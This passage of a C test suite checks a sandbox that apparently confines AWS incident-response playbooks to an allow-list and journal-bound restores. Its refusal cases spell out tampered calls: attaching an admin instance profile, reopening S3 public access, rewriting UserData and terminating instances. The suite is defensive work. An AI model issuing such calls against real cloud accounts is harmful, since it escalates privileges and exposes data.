		"local g = ec2.create_security_group{ GroupName = 'x', Description = 'x' }\n"
		"ec2.authorize_security_group_ingress{ GroupId = g.GroupId, IpPermissions = {} }\n",
		err, sizeof(err)), SANDBOX_ERROR);
	ck_assert_msg(strstr(err, "sg-0new is not one deadbolt created"), "%s", err);
	sandbox_free(sb);
}
END_TEST

/* The one move of an ENI out of deadbolt's groups: back to exactly the
 * groups the run first saw on it (issue 7's fallback when the second move of
 * the isolation fails), never anywhere else. */
START_TEST(test_an_eni_may_go_back_only_where_the_run_first_saw_it)
{
	static const struct {
		const char *groups;
		int ok;
	} moves[] = {
		{"{ 'sg-0web', 'sg-0prod' }", 1},            /* where it was, any order */
		{"{ 'sg-0prod' }", 0},                       /* part of it: a different set */
		{"{ 'sg-0prod', 'sg-0web', 'sg-0odd' }", 0}, /* more than it had */
		{"{ 'sg-0150' }", 1},                        /* deadbolt's isolation group */
	};
	for (size_t i = 0; i < sizeof(moves) / sizeof(moves[0]); i++) {
		fake f = {{0}, 0, {0}, {0}};
		char src[512], err[1024] = "";
		sandbox *sb = new_sandbox(&f, 0);
		snprintf(src, sizeof(src),
			 "ec2.describe_instances{ InstanceIds = { 'i-1' } }\n"
			 "ec2.describe_network_interfaces{}\n" /* now in sg-0150: the first sighting stays */
			 "ec2.modify_network_interface_attribute{ NetworkInterfaceId = 'eni-1', Groups = %s }",
			 moves[i].groups);
		sandbox_status st = run_src(sb, src, err, sizeof(err));
		ck_assert_msg((st == SANDBOX_OK) == moves[i].ok, "%s: %s", moves[i].groups, err);
		if (!moves[i].ok)
			ck_assert_msg(strstr(err, "nor are these the groups eni-1 had"), "%s", err);
		sandbox_free(sb);
	}
	/* another ENI's groups are not this one's */
	fake f = {{0}, 0, {0}, {0}};
	char err[1024] = "";
	sandbox *sb = new_sandbox(&f, 0);
	ck_assert_int_eq(run_src(sb, "ec2.describe_instances{}\n"
		"ec2.modify_network_interface_attribute{ NetworkInterfaceId = 'eni-2', "
		"Groups = { 'sg-0prod', 'sg-0web' } }", err, sizeof(err)), SANDBOX_ERROR);
	sandbox_free(sb);
}
END_TEST

/* The two-step move's first half left alone (an error, a budget, a hostile
 * playbook stopping there): the sandbox moves the ENI back itself when the
 * step ends, so no ENI stays open to everything. */
START_TEST(test_an_eni_left_in_the_allow_all_group_is_moved_back_when_the_step_ends)
{
	fake f = {{0}, 0, {0}, {0}};
	char err[1024] = "";
	sandbox *sb = new_sandbox(&f, 0);
	ck_assert_int_eq(run_src(sb,
		"ec2.describe_instances{ InstanceIds = { 'i-1' } }\n"
		"ec2.modify_network_interface_attribute{ NetworkInterfaceId = 'eni-1', Groups = { 'sg-07a1' } }\n"
		"error('the second move never comes')", err, sizeof(err)), SANDBOX_ERROR);
	ck_assert_str_eq(f.moved, "sg-0prod,sg-0web");
	ck_assert_msg(strstr(f.log, "warn:eni-1 was left in deadbolt's allow-all group"), "%s", f.log);
	/* the whole two-step move: nothing to settle */
	f.log[0] = '\0';
	ck_assert_int_eq(run_src(sb,
		"ec2.modify_network_interface_attribute{ NetworkInterfaceId = 'eni-1', Groups = { 'sg-07a1' } }\n"
		"ec2.modify_network_interface_attribute{ NetworkInterfaceId = 'eni-1', Groups = { 'sg-0150' } }\n",
		err, sizeof(err)), SANDBOX_OK);
	ck_assert_str_eq(f.moved, "sg-0150");
	ck_assert_str_eq(f.log, "");
	sandbox_free(sb);
}
END_TEST

START_TEST(test_a_refusal_cannot_be_turned_into_an_aws_error)
{
	fake f = {{0}, 0, {0}, {0}};
	char err[1024] = "";
	sandbox *sb = new_sandbox(&f, 0);
	/* pcall catches it (nothing was sent), but it is a plain error, not an
	 * AWS error table a playbook's aws.try would treat as an answer */
	ck_assert_int_eq(run_src(sb,
		"local ok, e = pcall(sns.publish, { TopicArn = 'arn:aws:sns:us-east-1:1:x', Message = 'm' })\n"
		"assert(not ok and type(e) == 'string' and e:find('refused by rule own%-topic'))\n",
		err, sizeof(err)), SANDBOX_OK);
	ck_assert_str_eq(f.sent, "");
	sandbox_free(sb);
}
END_TEST

/* Restore mode: an undo call comes from the host (sandbox_host_call) with
 * the journal's record of the thing it puts back; a write may loosen only
 * back to that record's before-state. The calls a tampered journal would
 * make (a record whose call names another value or thing than its
 * before-state) are refused, and nothing reaches AWS. */
#define ALL_BLOCKED "{ BlockPublicAcls = true, IgnorePublicAcls = true, BlockPublicPolicy = true, RestrictPublicBuckets = true }"
#define HALF_BLOCKED "{ BlockPublicAcls = true, IgnorePublicAcls = false, BlockPublicPolicy = false, RestrictPublicBuckets = false }"

static const struct restore_case {
	const char *name;
	const char *op;     /* "ec2.ModifyNetworkInterfaceAttribute" */
	const char *params; /* a Lua table */
	const char *facts;  /* a Lua table, or NULL: none */
	const char *refuse; /* NULL: sent; else the refusal says this */
} restore_cases[] = {
	{"eni back to its groups before", "ec2.ModifyNetworkInterfaceAttribute",
	 "{ NetworkInterfaceId = 'eni-1', Groups = { 'sg-0web', 'sg-0prod' } }",
	 "{ ['eni:eni-1'] = { before = { 'sg-0prod', 'sg-0web' }, after = { 'sg-0150' } } }", OK},
	{"eni into a group it was never in", "ec2.ModifyNetworkInterfaceAttribute",
	 "{ NetworkInterfaceId = 'eni-1', Groups = { 'sg-0open' } }",
	 "{ ['eni:eni-1'] = { before = { 'sg-0prod', 'sg-0web' }, after = { 'sg-0150' } } }",
	 "eni-1 may go back only to the groups the journal recorded on it before the containment (sg-0prod, sg-0web)"},
	{"eni: the record of another eni", "ec2.ModifyNetworkInterfaceAttribute",
	 "{ NetworkInterfaceId = 'eni-2', Groups = { 'sg-0prod', 'sg-0web' } }",
	 "{ ['eni:eni-1'] = { before = { 'sg-0prod', 'sg-0web' } } }",
	 "the journal recorded no groups of eni-2"},
	{"eni: no record", "ec2.ModifyNetworkInterfaceAttribute",
	 "{ NetworkInterfaceId = 'eni-1', Groups = { 'sg-0prod' } }", NULL,
	 "the journal recorded no groups of eni-1"},
	{"eni: into deadbolt's isolation group, tightening", "ec2.ModifyNetworkInterfaceAttribute",
	 "{ NetworkInterfaceId = 'eni-1', Groups = { 'sg-0150' } }", NULL, OK},
	{"the revoke policy, absent before", "iam.DeleteRolePolicy",
	 "{ RoleName = 'app', PolicyName = 'AWSRevokeOlderSessions' }",
	 "{ ['role-policy:app:AWSRevokeOlderSessions'] = { before = { absent = true }, after = { document = 'x' } } }", OK},
	{"an unrelated policy", "iam.DeleteRolePolicy",
	 "{ RoleName = 'app', PolicyName = 'ProdAccess' }",
	 "{ ['role-policy:app:ProdAccess'] = { before = { absent = true } } }",
	 "only deadbolt's policy AWSRevokeOlderSessions may be deleted, not ProdAccess"},
	{"the revoke policy, present before", "iam.DeleteUserPolicy",
	 "{ UserName = 'u', PolicyName = 'AWSRevokeOlderSessions' }",
	 "{ ['user-policy:u:AWSRevokeOlderSessions'] = { before = { document = 'old' } } }",
	 "may be deleted only where the journal recorded none before"},
	{"an earlier allow policy put back as it was", "iam.PutUserPolicy",
	 "{ UserName = 'u', PolicyName = 'AWSRevokeOlderSessions', PolicyDocument = " POLICY("Allow") " }",
	 "{ ['user-policy:u:AWSRevokeOlderSessions'] = { before = { document = " POLICY("Allow") " } } }", OK},
	{"an allow policy the journal never recorded", "iam.PutUserPolicy",
	 "{ UserName = 'u', PolicyName = 'AWSRevokeOlderSessions', PolicyDocument = " POLICY("Allow") " }",
	 "{ ['user-policy:u:AWSRevokeOlderSessions'] = { before = { absent = true } } }",
	 "may be put back only as the document the journal recorded"},
	{"a bucket with no block before", "s3.DeletePublicAccessBlock", "{ Bucket = 'b' }",
	 "{ ['pab:b'] = { before = { absent = true }, after = { config = " ALL_BLOCKED " } } }", OK},
	{"opening a bucket that was not open", "s3.DeletePublicAccessBlock", "{ Bucket = 'b' }",
	 "{ ['pab:b'] = { before = { config = " HALF_BLOCKED " }, after = { config = " ALL_BLOCKED " } } }",
	 "the block of b may be deleted only when the journal recorded none before"},
	{"a bucket's block back as it was", "s3.PutPublicAccessBlock",
	 "{ Bucket = 'b', PublicAccessBlockConfiguration = " HALF_BLOCKED " }",
	 "{ ['pab:b'] = { before = { config = " HALF_BLOCKED " } } }", OK},
	{"a looser block than the one before", "s3.PutPublicAccessBlock",
	 "{ Bucket = 'b', PublicAccessBlockConfiguration = { BlockPublicAcls = false } }",
	 "{ ['pab:b'] = { before = { config = " HALF_BLOCKED " } } }",
	 "may be loosened only to the one the journal recorded"},
	{"the account's block deleted, none before", "s3control.DeletePublicAccessBlock",
	 "{ AccountId = '123456789012' }", "{ ['apab:123456789012'] = { before = { absent = true } } }", OK},
	{"another account's block", "s3control.DeletePublicAccessBlock",
	 "{ AccountId = '999999999999' }", "{ ['apab:123456789012'] = { before = { absent = true } } }",
	 "may be deleted only when the journal recorded none"},
	{"a key deadbolt deactivated", "iam.UpdateAccessKey",
	 "{ UserName = 'u', AccessKeyId = 'AKIA1', Status = 'Active' }",
	 "{ ['key:u:AKIA1'] = { before = 'Active', after = 'Inactive' } }", OK},
	{"a key that was inactive before", "iam.UpdateAccessKey",
	 "{ UserName = 'u', AccessKeyId = 'AKIA1', Status = 'Active' }",
	 "{ ['key:u:AKIA1'] = { before = 'Inactive', after = 'Inactive' } }",
	 "may be made Active only when the journal recorded deadbolt deactivating it"},
	{"a key deactivated: tightening needs no record", "iam.UpdateAccessKey",
	 "{ UserName = 'u', AccessKeyId = 'AKIA1', Status = 'Inactive' }", NULL, OK},
	{"a tag deadbolt added", "ec2.DeleteTags",
	 "{ Resources = { 'i-1' }, Tags = { { Key = 'deadbolt:contained', Value = 'f00d' } } }",
	 "{ ['tag:i-1:deadbolt:contained'] = { before = { absent = true }, after = { value = 'f00d' } } }", OK},
	{"a tag the instance had", "ec2.DeleteTags",
	 "{ Resources = { 'i-1' }, Tags = { { Key = 'Owner', Value = 'me' } } }",
	 "{ ['tag:i-1:Owner'] = { before = { value = 'ops' }, after = { value = 'me' } } }",
	 "may be removed only when the journal recorded it absent"},
	{"back into its Auto Scaling group", "autoscaling.AttachInstances",
	 "{ AutoScalingGroupName = 'web', InstanceIds = { 'i-1' } }",
	 "{ ['asg:web:i-1'] = { before = { member = true }, after = { member = false } } }", OK},
	{"into another Auto Scaling group", "autoscaling.AttachInstances",
	 "{ AutoScalingGroupName = 'admin', InstanceIds = { 'i-1' } }",
	 "{ ['asg:web:i-1'] = { before = { member = true } } }", "may go back only where the journal recorded it"},
	{"a target on another port", "elbv2.RegisterTargets",
	 "{ TargetGroupArn = 'arn:tg', Targets = { { Id = 'i-1', Port = 22 } } }",
	 "{ ['tg:arn:tg:i-1:80'] = { before = { member = true } } }", "may go back only where the journal recorded it"},
	{"its profile before", "ec2.AssociateIamInstanceProfile",
	 "{ InstanceId = 'i-1', IamInstanceProfile = { Arn = 'arn:aws:iam::1:instance-profile/web' } }",
	 "{ ['profile:i-1'] = { before = { arn = 'arn:aws:iam::1:instance-profile/web' } } }", OK},
	{"an admin profile", "ec2.AssociateIamInstanceProfile",
	 "{ InstanceId = 'i-1', IamInstanceProfile = { Arn = 'arn:aws:iam::1:instance-profile/admin' } }",
	 "{ ['profile:i-1'] = { before = { arn = 'arn:aws:iam::1:instance-profile/web' } } }",
	 "only the profile the journal recorded on i-1"},
	{"termination protection off, as before", "ec2.ModifyInstanceAttribute",
	 "{ InstanceId = 'i-1', DisableApiTermination = { Value = false } }",
	 "{ ['attr:i-1:DisableApiTermination'] = { before = false, after = true } }", OK},
	{"a volume's DeleteOnTermination back", "ec2.ModifyInstanceAttribute",
	 "{ InstanceId = 'i-1', BlockDeviceMappings = { { DeviceName = '/dev/sda1', Ebs = { DeleteOnTermination = true } } } }",
	 "{ ['dot:i-1:/dev/sda1'] = { before = true, after = false } }", OK},
	{"a volume's DeleteOnTermination with another device's record", "ec2.ModifyInstanceAttribute",
	 "{ InstanceId = 'i-1', BlockDeviceMappings = { { DeviceName = '/dev/sdb', Ebs = { DeleteOnTermination = true } } } }",
	 "{ ['dot:i-1:/dev/sda1'] = { before = true, after = false } }",
	 "DeleteOnTermination of /dev/sdb may go back only to the value the journal recorded"},
	{"protection off with no record", "ec2.ModifyInstanceAttribute",
	 "{ InstanceId = 'i-1', DisableApiTermination = { Value = false } }", NULL,
	 "DisableApiTermination of i-1 may go back only to the value the journal recorded"},
	{"user data is never an undo", "ec2.ModifyInstanceAttribute",
	 "{ InstanceId = 'i-1', UserData = { Value = 'x' } }",
	 "{ ['attr:i-1:UserData'] = { before = 'x' } }", "member UserData is not allowed"},
	{"deadbolt's group it created", "ec2.DeleteSecurityGroup", "{ GroupId = 'sg-0150' }",
	 "{ ['created:sg-0150'] = { before = { absent = true }, after = { present = true } } }", OK},
	{"someone else's group", "ec2.DeleteSecurityGroup", "{ GroupId = 'sg-0prod' }",
	 "{ ['created:sg-0prod'] = { before = { absent = true }, after = { present = true } } }",
	 "not one deadbolt created"},
	{"a group the journal did not create", "ec2.DeleteSecurityGroup", "{ GroupId = 'sg-0150' }", NULL,
	 "the journal does not say the run created group sg-0150"},
	{"an operation on neither list", "ec2.TerminateInstances", "{ InstanceIds = { 'i-1' } }", NULL,
	 "ec2.TerminateInstances is not on the allow-list"},
};

/* Evaluates src in H and leaves the value on top. */
static void push_lua(lua_State *H, const char *src)
{
	char code[2048];
	snprintf(code, sizeof(code), "return %s", src);
	ck_assert_msg(luaL_dostring(H, code) == LUA_OK, "%s", lua_tostring(H, -1));
}

START_TEST(test_restore_mode_loosens_only_back_to_the_journals_state_before)
{
	const struct restore_case *c = &restore_cases[_i];
	fake f = {{0}, 0, {0}, {0}};
	char why[768] = "", service[32];
	aws_error err;
	sandbox *sb = new_sandbox(&f, 1);
	lua_State *H = luaL_newstate();
	const char *dot = strchr(c->op, '.');
	snprintf(service, sizeof(service), "%.*s", (int)(dot - c->op), c->op);
	push_lua(H, c->params);
	if (c->facts)
		push_lua(H, c->facts);
	aws_error_clear(&err);
	int rc = sandbox_host_call(sb, service, dot + 1, H, 1, c->facts ? 2 : 0, &err, why, sizeof(why));
	if (!c->refuse) {
		ck_assert_msg(rc == 0, "%s: %s %s", c->name, why, err.message);
		ck_assert_msg(strstr(f.sent, dot + 1), "%s: not sent: %s", c->name, f.sent);
		ck_assert_msg(lua_istable(H, -1), "%s: no result on the host's state", c->name);
	} else {
		ck_assert_msg(rc == -2, "%s: not refused (%d)", c->name, rc);
		ck_assert_msg(strstr(why, c->refuse), "%s: %s", c->name, why);
		ck_assert_msg(!strstr(f.sent, dot + 1), "%s: reached the host: %s", c->name, f.sent);
	}
	lua_close(H);
	sandbox_free(sb);
}
END_TEST

START_TEST(test_undo_only_writes_exist_only_in_restore_mode)
{
	fake f = {{0}, 0, {0}, {0}};
	char err[1024] = "", why[768] = "";
	aws_error aerr;
	sandbox *sb = new_sandbox(&f, 0);
	lua_State *H = luaL_newstate();
	/* no playbook method */
	ck_assert_int_eq(run_src(sb, "assert(ec2.delete_tags == nil and iam.delete_role_policy == nil)",
		err, sizeof(err)), SANDBOX_OK);
	/* nor a host call outside restore mode, with the journal's record or not */
	push_lua(H, "{ Bucket = 'b' }");
	push_lua(H, "{ ['pab:b'] = { before = { absent = true } } }");
	ck_assert_int_eq(sandbox_host_call(sb, "s3", "DeletePublicAccessBlock", H, 1, 2, &aerr, why,
					   sizeof(why)), -2);
	ck_assert_msg(strstr(why, "not on the allow-list"), "%s", why);
	/* and the ordinary rules hold for the host's calls too: no record loosens */
	push_lua(H, "{ Bucket = 'b', PublicAccessBlockConfiguration = { BlockPublicAcls = false } }");
	ck_assert_int_eq(sandbox_host_call(sb, "s3", "PutPublicAccessBlock", H, -1, 2, &aerr, why,
					   sizeof(why)), -2);
	ck_assert_msg(strstr(why, "refused by rule block-all: BlockPublicAcls must be true"), "%s", why);
	ck_assert_str_eq(f.sent, "");
	lua_close(H);
	sandbox_free(sb);
}
END_TEST

START_TEST(test_a_playbook_in_restore_mode_has_no_record_to_loosen_to)
{
	fake f = {{0}, 0, {0}, {0}};
	char err[1024] = "";
	sandbox *sb = new_sandbox(&f, 1);
	ck_assert_int_eq(run_src(sb,
		"iam.update_access_key{ UserName = 'u', AccessKeyId = 'AKIA1', Status = 'Active' }",
		err, sizeof(err)), SANDBOX_ERROR);
	ck_assert_msg(strstr(err, "refused by rule deactivate-only"), "%s", err);
	ck_assert_int_eq(run_src(sb, "s3.put_public_access_block{ Bucket = 'b', "
		"PublicAccessBlockConfiguration = { BlockPublicAcls = false } }", err, sizeof(err)),
		SANDBOX_ERROR);
	ck_assert_int_eq(run_src(sb, "iam.put_user_policy{ UserName = 'u', PolicyName = "
		"'AWSRevokeOlderSessions', PolicyDocument = " POLICY("Allow") " }", err, sizeof(err)),
		SANDBOX_ERROR);
	ck_assert_str_eq(f.sent, "");
	sandbox_free(sb);
}
END_TEST

START_TEST(test_a_sandbox_without_a_run_writes_no_object_and_sends_no_command)
{
	fake f = {{0}, 0, {0}, {0}};
	sandbox_host host = {fake_call, NULL, &f};
	char err[1024] = "";
	sandbox *sb = sandbox_new(NULL, &host, NULL, err, sizeof(err));
	ck_assert_int_eq(run_src(sb, "s3.put_object{ Bucket = 'b', Key = "
		"'evidence/1/r/x/f/k', IfNoneMatch = '*' }", err, sizeof(err)), SANDBOX_ERROR);
	ck_assert_msg(strstr(err, "no ARTIFACT_BUCKET"), "%s", err);
	ck_assert_int_eq(run_src(sb, "ssm.send_command{ DocumentName = 'AWS-RunShellScript', "
		"InstanceIds = { 'i-0123456789abcdef0' }, Parameters = { commands = { 'uname -a' } } }",
		err, sizeof(err)), SANDBOX_ERROR);
	ck_assert_msg(strstr(err, "names no forensic document"), "%s", err);
	ck_assert_str_eq(f.sent, "");
	sandbox_free(sb);
}
END_TEST

/* ---- the static check ---- */

static const struct static_case {
	const char *op, *params; /* a Lua table constructor of literals */
	const char *refuse;      /* NULL: nothing wrong it can see */
} static_cases[] = {
	{"PutUserPolicy", "{ PolicyDocument = " POLICY("Allow") " }", "rule deny-only: statement 1"},
	{"PutUserPolicy", "{ PolicyDocument = " POLICY("Deny") " }", NULL},
	{"PutUserPolicy", "{ UserName = 'u' }", NULL}, /* the document is computed */
	{"PutPublicAccessBlock", "{ PublicAccessBlockConfiguration = { BlockPublicAcls = false } }",
	 "rule block-all: BlockPublicAcls must be true"},
	{"PutObject", "{ Key = 'k', IfNoneMatch = '*' }", "rule evidence-object"},
	{"PutObject", "{ Bucket = 'b', IfNoneMatch = 'x' }", "IfNoneMatch must be"},
	{"PutObject", "{ Bucket = 'b' }", NULL}, /* the bucket is the run's: not judged */
	{"SendCommand", "{ DocumentName = 'd', Targets = {} }", "member Targets is not allowed"},
	{"AuthorizeSecurityGroupIngress", "{ GroupName = 'default' }", "member GroupName"},
	{"AuthorizeSecurityGroupIngress", "{ GroupId = 'sg-1' }", NULL}, /* the group is the run's */
	{"CreateTags", "{ Tags = { { Key = 'deadbolt:group', Value = 'untrack' } } }", "no-group-tag"},
	{"UpdateAccessKey", "{ Status = 'Active' }", "deactivate-only"},
	{"DetachInstances", "{ ShouldDecrementDesiredCapacity = true }", "keep-capacity"},
	{"DescribeInstances", "{ Anything = 1 }", NULL},
};

START_TEST(test_static_check_judges_what_literals_show)
{
	const struct static_case *c = &static_cases[_i];
	const allow_entry *e = NULL;
	char src[1024], err[512] = "";
	lua_State *L = luaL_newstate();
	for (size_t i = 0; !e && i < allowlist_count(); i++)
		if (strcmp(allowlist_at(i)->operation, c->op) == 0)
			e = allowlist_at(i);
	ck_assert_ptr_nonnull(e);
	snprintf(src, sizeof(src), "return %s", c->params);
	ck_assert_int_eq(luaL_dostring(L, src), LUA_OK);
	int rc = allow_rule_check_static(e, L, -1, err, sizeof(err));
	ck_assert_int_eq(lua_gettop(L), 1);
	lua_close(L);
	if (!c->refuse) {
		ck_assert_msg(rc == 0, "%s %s: %s", c->op, c->params, err);
		return;
	}
	ck_assert_msg(rc == -1, "%s %s: not refused", c->op, c->params);
	ck_assert_msg(strstr(err, c->refuse), "'%s' does not say '%s'", err, c->refuse);
}
END_TEST

/* ---- config.lua, read by the host ---- */

static char dir[256];

static void write_config(const char *text)
{
	char path[512];
	snprintf(dir, sizeof(dir), "/tmp/deadbolt-rules-XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/config.lua", dir);
	FILE *f = fopen(path, "w");
	ck_assert_ptr_nonnull(f);
	fputs(text, f);
	fclose(f);
}

static void remove_config(void)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/config.lua", dir);
	unlink(path);
	rmdir(dir);
}

START_TEST(test_config_commands_are_read_by_the_host)
{
	sandbox_config c;
	char err[512] = "";
	write_config("return { forensics = { document = 'AWS-RunShellScript', commands = { 'uname -a', "
		     "'last' }, egress = { UserIdGroupPairs = { { GroupId = 'sg-1' } }, PrefixListIds = "
		     "{ { PrefixListId = 'pl-1' }, { PrefixListId = 'pl-2' } } } }, "
		     "iam = { revoke_policy_name = 'P' } }");
	ck_assert_msg(sandbox_config_read(NULL, dir, NULL, &c, err, sizeof(err)) == 0, "%s", err);
	remove_config();
	ck_assert_str_eq(c.document, "AWS-RunShellScript");
	ck_assert_uint_eq(c.ncommands, 2);
	ck_assert_str_eq(c.commands[1], "last");
	ck_assert_str_eq(c.policy_name, "P");
	ck_assert_uint_eq(c.nendpoint_groups, 1);
	ck_assert_str_eq(c.endpoint_groups[0], "sg-1");
	ck_assert_uint_eq(c.nprefix_lists, 2);
	ck_assert_str_eq(c.prefix_lists[1], "pl-2");
	sandbox_config_free(&c);
}
END_TEST

START_TEST(test_config_that_is_not_a_list_of_commands_is_refused)
{
	sandbox_config c;
	char err[512] = "";
	write_config("return { forensics = { document = 'd', commands = { 'ls', {} } } }");
	ck_assert_int_eq(sandbox_config_read(NULL, dir, NULL, &c, err, sizeof(err)), -1);
	remove_config();
	ck_assert_msg(strstr(err, "forensics.commands"), "%s", err);
	ck_assert_uint_eq(c.ncommands, 0);
	write_config("return { forensics = { document = 42 } }");
	ck_assert_int_eq(sandbox_config_read(NULL, dir, NULL, &c, err, sizeof(err)), -1);
	remove_config();
	ck_assert_msg(strstr(err, "forensics.document must be a string"), "%s", err);
}
END_TEST

START_TEST(test_no_config_means_no_commands)
{
	sandbox_config c;
	char err[512] = "";
	ck_assert_int_eq(sandbox_config_read(NULL, "/nonexistent-dir", NULL, &c, err, sizeof(err)), 0);
	ck_assert_uint_eq(c.ncommands, 0);
	ck_assert_ptr_null(c.document);
}
END_TEST

static Suite *rules_suite(void)
{
	Suite *s = suite_create("rules");
	TCase *t = tcase_create("rules");
	tcase_add_loop_test(t, test_each_rule_allows_and_refuses, 0, NROWS(cases));
	tcase_add_test(t, test_every_write_declares_a_rule_and_why);
	tcase_add_test(t, test_groups_seen_in_answers_cost_no_extra_call);
	tcase_add_test(t, test_a_group_created_without_the_tag_is_not_deadbolts);
	tcase_add_test(t, test_an_eni_may_go_back_only_where_the_run_first_saw_it);
	tcase_add_test(t, test_an_eni_left_in_the_allow_all_group_is_moved_back_when_the_step_ends);
	tcase_add_test(t, test_a_refusal_cannot_be_turned_into_an_aws_error);
	tcase_add_loop_test(t, test_restore_mode_loosens_only_back_to_the_journals_state_before, 0,
			    sizeof(restore_cases) / sizeof(restore_cases[0]));
	tcase_add_test(t, test_undo_only_writes_exist_only_in_restore_mode);
	tcase_add_test(t, test_a_playbook_in_restore_mode_has_no_record_to_loosen_to);
	tcase_add_test(t, test_a_sandbox_without_a_run_writes_no_object_and_sends_no_command);
	tcase_add_loop_test(t, test_static_check_judges_what_literals_show, 0, NROWS(static_cases));
	tcase_add_test(t, test_config_commands_are_read_by_the_host);
	tcase_add_test(t, test_config_that_is_not_a_list_of_commands_is_refused);
	tcase_add_test(t, test_no_config_means_no_commands);
	suite_add_tcase(s, t);
	return s;
}

int main(void)
{
	return tu_run(rules_suite());
}
